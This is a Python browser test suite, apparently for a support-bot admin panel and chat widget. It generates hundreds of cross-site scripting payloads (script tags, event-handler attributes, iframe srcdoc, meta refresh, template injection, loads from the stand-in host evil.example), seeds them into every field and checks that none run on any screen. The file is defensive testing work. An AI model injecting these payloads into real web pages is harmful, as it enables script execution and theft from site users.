"""Nothing that anybody writes runs in anybody's browser: payloads in every field, every screen.

The payloads are made here: a way out of the place where a text stands, times something that would
run or fetch, times a spelling. A page without any escaping shows first that they bite.
"""

from __future__ import annotations

import itertools
import os
import random
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from urllib.parse import quote

import msgspec
import pytest
from aiohttp import web
from playwright.async_api import BrowserContext, Page, expect

from admin import panel
from bot.app import Running, running
from bot.domain import (
    Attachment,
    Author,
    CategoryGuess,
    Decision,
    Inbound,
    Reasons,
    Role,
    Suggestion,
    Suggestions,
)
from bot.event import Event
from bot.handover import Action
from bot.store.records import Reply

pytestmark = pytest.mark.browser
COUNT = {"short": 200, "full": 1000}.get(os.environ.get("TRUST_PROFILE", ""), 8)
EVIL = "//evil.example"
WAYS_OUT = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</select>",
    '" ', "' ", "\\\"", "`}", "</svg>", "\u202e", "\ufeff",
)  # fmt: skip
# {n} is the payload's number; hit() tells the test.
DEEDS = (
    "<script>hit({n})</script>", "<img src=x onerror=hit({n})>", "<svg onload=hit({n})>",
    "<details open ontoggle=hit({n})>", "<input autofocus onfocus=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'>", "<img src={evil}/{n}>",
    "<link rel=stylesheet href={evil}/{n}>", "<script src={evil}/{n}></script>",
    "<a href=javascript:hit({n}) autofocus>x</a>", "<base href={evil}/>",
    "<form action={evil}><button autofocus>x",
    "<meta http-equiv=refresh content='0;url={evil}/{n}'>",
    "<style>*{{background:url({evil}/{n})}}</style>", "<object data={evil}/{n}></object>",
    "<video><source onerror=hit({n})>", "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "onmouseover=hit({n}) style=position:fixed;inset:0;z-index:9 x=",
    "autofocus onfocus=hit({n}) tabindex=0 x=", "{{{{constructor.constructor('hit({n})')()}}}}",
    "${{hit({n})}}", ";hit({n});//", "<math><mtext><img src=x onerror=hit({n})>",
)  # fmt: skip
SPELLINGS = (
    str, str.upper, lambda text: text.replace("<", "&lt;"), lambda text: text.replace("<", "%3C"),
    lambda text: text.replace(" ", "/"), lambda text: text.replace("<", "<\x0c"), str,
)  # fmt: skip
NAIVE = (
    "<body>{0}",
    '<input value="{0}">',
    "<textarea>{0}</textarea>",
    "<p title='{0}'>",
    "<script>let x = '{0}'</script>",
)


def payloads(count: int) -> list[str]:
    """``count`` different ones; each way out and each deed is there as often as may be."""
    rng = random.Random(20261127)
    pairs = list(itertools.product(WAYS_OUT, DEEDS))
    rng.shuffle(pairs)
    made = [(out, deed, SPELLINGS[0]) for out, deed in pairs[: count // 2]]
    made += [(*rng.choice(pairs), rng.choice(SPELLINGS)) for _ in range(count - len(made))]
    return [
        out + spell(deed.format(n=number, evil=EVIL))
        for number, (out, deed, spell) in enumerate(made)
    ]


@dataclass
class Trap:
    """Counts what ran, what was fetched elsewhere, and what the content policy had to stop."""

    context: BrowserContext
    url: str
    ran: list[str] = field(default_factory=list)
    fetched: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)
    loads: int = 0

    async def page(self) -> Page:
        page = await self.context.new_page()
        page.on("request", lambda r: self._asked(page, r.url))
        page.on("console", lambda m: self._said(page, m.text))
        page.on("dialog", lambda d: self.ran.append(f"{page.url}: dialog"))
        return page

    def hit(self, source, *values) -> None:
        self.ran.append(f"{source['page'].url}: {values}")

    def _asked(self, page: Page, url: str) -> None:
        if not url.startswith((self.url, "data:", "blob:", "about:")):
            self.fetched.append(f"{page.url}: {url}")

    def _said(self, page: Page, text: str) -> None:
        if "Content Security Policy" in text or "Content-Security-Policy" in text:
            self.stopped.append(f"{page.url}: {text[:200]}")

    async def look(self, page: Page, path: str) -> None:
        """Open a page and move over it."""
        await page.goto(self.url + path, wait_until="load")
        await page.mouse.move(200 + self.loads % 50, 300)
        self.loads += 1


@pytest.fixture
async def trap(browser) -> AsyncIterator[object]:
    made = []

    async def make(url: str) -> Trap:
        context = await browser.new_context(locale="en-GB")
        await context.route("**://evil.example/**", lambda route: route.abort())
        trap = Trap(context, url)
        await context.expose_binding("hit", trap.hit)
        made.append(context)
        return trap

    yield make
    for context in made:
        await context.close()


async def test_the_payloads_bite_where_nothing_is_escaped(trap) -> None:
    texts = payloads(min(COUNT, 100))
    frames = [(n, place) for n in range(len(texts)) for place in range(len(NAIVE))]

    async def naive(request: web.Request) -> web.Response:
        if "n" not in request.query:
            at = int(request.query["at"])
            shown = frames[at : at + 100]
            text = "".join(f"<iframe src='/?n={n}&place={p}'></iframe>" for n, p in shown)
        else:
            place = NAIVE[int(request.query["place"])]
            text = place.format(texts[int(request.query["n"])])
        return web.Response(text=f"<!doctype html>{text}", content_type="text/html")

    app = web.Application()
    app.router.add_get("/", naive)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    seen = await trap(f"http://127.0.0.1:{runner.addresses[0][1]}")
    page = await seen.page()
    for at in range(0, len(frames), 100):
        await seen.look(page, f"/?at={at}")
        await page.wait_for_timeout(500)
    await page.close()
    await runner.cleanup()
    bitten = {found[1] for one in seen.ran if (found := re.search(r"\((\d+),\)", one))}
    bitten |= {found[1] for one in seen.fetched if (found := re.search(r"example/(\d+)", one))}
    # the rest asks for a click, another spelling or a template engine
    assert len(bitten) >= len(texts) // 4, sorted(bitten)


class Seeded:
    """A server on whose every field somebody wrote payloads."""

    def __init__(self, server: Running, texts: list[str], receiver: str) -> None:
        self.server, self.texts, self.receiver = server, texts, receiver
        self.store = server.services.store
        self.talks: list[str] = []
        self.pages: list[str] = []

    async def fill(self) -> None:
        """One of everything for each payload."""
        for number, text in enumerate(self.texts):
            await self._people(number, text)
            await self._knowledge(number, text)
            await self._talk(number, text)
        await self.server.services.pipeline.settled()

    async def _people(self, number: int, text: str) -> None:
        people = self.store.people
        await people.create_agent(f"agent{number}", text[:100], Role.AGENT, "en")
        await people.create_token(text[:100], ["suggest"])
        await people.audit(text[:60], "agent.created", text, {"name": text, text[:40]: text})
        hook, _ = await self.store.webhooks.create(
            text[:100], f"{self.receiver}?n={number}", ["message.created"]
        )
        await self.store.webhooks.pause(hook, active=number % 20 == 0)
        if number % 20 == 0:  # its receiver answers with the payload
            delivery = await self.store.webhooks.test(hook, text[:60])
            home = f"/admin/system/webhooks/{hook}"
            self.pages += [home, f"{home}/edit", f"{home}/deliveries/{delivery}"]

    async def _knowledge(self, number: int, text: str) -> None:
        knowledge = self.store.knowledge
        article = await knowledge.save(
            text=f"{text} {number}", questions=[f"{text} {number}"], category=text[:60], title=text,
            actor=text[:60],
        )  # fmt: skip
        self.articles = article.id
        await knowledge.save_canned(f"g{number // 8:03d} {text[:50]}", text)
        if number % 10 == 0:
            await knowledge.save(
                article_id=article.id, text=f"{text} again", questions=[text], title=text[::-1],
                category=text[:60], actor=text[:60],
            )  # fmt: skip
            self.pages.append(f"/admin/knowledge/{article.id}")

    async def _talk(self, number: int, text: str) -> None:
        services, talks = self.server.services, self.store.conversations
        inbound = Inbound(
            "web", f"m{number}", f"v{number}", text, services.clock(), customer_name=text[:80],
            language="en", metadata={"page": text},
            attachment=Attachment(text[:100], text[:60], 10, "web:none"),
        )  # fmt: skip
        [receipt] = await talks.receive([inbound])
        item = Suggestion(
            self.articles, text, text, text[:60], "en", 0.9, True, Reasons(text, (text,), text[:60])
        )
        found = Suggestions(
            (CategoryGuess(text[:60], 0.9),), (item,), False, "en", "v", 1, False, 1.0
        )
        await talks.save_suggestions(receipt.message_id, found, Decision.HANDOFF)
        await talks.add_note(receipt.conversation_id, None, text)
        await talks.act(receipt.conversation_id, Action.PERSON_WANTED)
        await talks.save_draft(receipt.conversation_id, 1, text)
        self.talks.append(receipt.conversation_public_id)
        event = Event(
            name=text[:64], id=f"e{number}", at=services.clock(), visitor=f"v{number}",
            customer=f"v{number}", company=text[:200], url=f"https://x.example/{text}", title=text,
            h1=text, item=text[:200],
        )  # fmt: skip
        await services.intake.put([event])
        if number % 10 == 0:
            customer = await talks.find_customer("web", f"v{number}")
            self.pages.append(f"/admin/customers/{customer.public_id}")

    def lists(self) -> list[str]:
        """Every list, page by page, and what a search says of the word searched for."""
        leaves = range(1, len(self.texts) // 20 + 2)
        listed = (
            "/desk?view=all", "/admin/customers?", "/admin/knowledge?", "/admin/system/audit?",
            "/admin/training-set?", "/admin/review?", "/admin/unanswered?",
        )  # fmt: skip
        whole = [
            route.path
            for route in panel.routes()
            if route.method == "GET"
            and not re.search(r"[{]|\.csv$|/(job|loss|preview)$", route.path)
        ]
        asked = [
            f"{path}{name}={quote(text)}"
            for text in self.texts[::10]
            for path, name in (
                ("/desk?", "q"), ("/admin/knowledge?", "query"), ("/admin/customers?", "query"),
                ("/admin/system/audit?", "text"), ("/sign-in?", "next"), ("/no/", "x"),
            )
        ]  # fmt: skip
        named = ["/account", "/admin/reports?by=agent", "/admin/channels?open=1", *whole, *asked]
        return [f"{one}&page={leaf}" for leaf in leaves for one in listed] + named


@pytest.fixture
async def receiver() -> AsyncIterator[tuple[str, list[str]]]:
    """A webhook's receiver that answers with a payload."""
    texts: list[str] = []

    async def answer(request: web.Request) -> web.Response:
        return web.Response(text=texts[int(request.query["n"])], content_type="text/html")

    app = web.Application()
    app.router.add_post("/", answer)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}/", texts
    await runner.cleanup()


@pytest.fixture
async def seeded(settings, receiver) -> AsyncIterator[Seeded]:
    url, texts = receiver
    texts += payloads(COUNT)
    settings = msgspec.structs.replace(
        settings,
        http=msgspec.structs.replace(settings.http, port=0, requests_per_minute=1_000_000),
        answers=msgspec.structs.replace(settings.answers, undo_s=0.0),
        webhooks=msgspec.structs.replace(settings.webhooks, private_networks=("127.0.0.0/8",)),
        widget=msgspec.structs.replace(
            settings.widget, title=texts[0], quick_questions=tuple(texts[1:4])
        ),
        company=texts[4],
    )
    parts = {"templates": [panel.TEMPLATES], "navigation": panel.NAVIGATION}
    async with running(settings, extra=[panel.add], **parts) as server:
        made = Seeded(server, texts, url)
        await server.services.store.people.create_agent("boss", texts[5][:100], Role.OWNER, "en")
        await made.fill()
        yield made


async def sign_in(seeded: Seeded, trap: Trap) -> None:
    token = await seeded.store.people.create_session(1)
    await trap.context.add_cookies([
        {"name": "neurobot", "value": token, "url": trap.url},
        {"name": "lang", "value": "en", "url": trap.url},
    ])  # fmt: skip


@pytest.mark.timeout(1200)
async def test_nothing_runs_on_any_screen(seeded, trap, record_property) -> None:
    seen = await trap(seeded.server.url)
    await sign_in(seeded, seen)
    page = await seen.page()
    for path in seeded.lists():
        await seen.look(page, path)
    for path in seeded.pages:
        await seen.look(page, path)
        assert await page.locator("main").count(), path
    for number, talk in enumerate(seeded.talks):
        await seen.look(page, f"/desk/conversations/{talk}")
        if number % 8 == 0:  # drawn by the server; put in place by the desk's script
            await seen.look(page, f"/desk?view=all&c={talk}")
    await seen.look(page, f"/desk?view=all&c={seeded.talks[0]}")
    written = await page.locator("main").inner_text()
    assert seeded.texts[0] in written  # it is there, as text
    composer = page.locator('textarea[name="text"]').first
    for group in range(len(seeded.texts) // 8 + 1):
        await composer.fill(f"/g{group:03d}")
        await page.locator("[data-canned] [role=option]").first.wait_for()
    await composer.fill("")
    await page.close()
    assert not seen.ran + seen.fetched + seen.stopped, (seen.ran, seen.fetched, seen.stopped)
    record_property(
        "figure",
        f"{len(seeded.texts)} payloads, {seen.loads} screens: 0 ran, 0 foreign requests, "
        "0 stopped by the policy alone",
    )


@pytest.mark.timeout(300)
async def test_nothing_runs_in_the_visitors_chat(seeded, trap) -> None:
    seen = await trap(seeded.server.url)
    page = await seen.page()
    await seen.look(page, "/chat")
    text = page.get_by_label("Your question")
    await text.fill(seeded.texts[0])
    async with page.expect_response("**/chat/messages") as answer:
        await page.keyboard.press("Enter")
    talk = (await (await answer.value).json())["conversation"]
    talks = seeded.store.conversations
    mine = await talks.by_public_id(talk)
    agents = {agent.login: agent.id for agent in await seeded.store.people.agents()}
    shown = seeded.texts[:150]
    for number, payload in enumerate(shown):
        reply = Reply(
            text=payload, author=Author.AGENT, agent_id=agents[f"agent{number}"],
            idempotency_key=f"x{number}",
        )  # fmt: skip
        await talks.reply(mine.id, reply)
    seeded.server.services.delivery.wake()
    await expect(page.locator(".line.agent")).to_have_count(len(shown), timeout=30_000)
    await page.mouse.move(100, 200)
    await page.reload(wait_until="load")
    await expect(page.locator(".line.agent")).to_have_count(len(shown), timeout=30_000)
    await page.close()
    assert not seen.ran + seen.fetched + seen.stopped, (seen.ran, seen.fetched, seen.stopped)
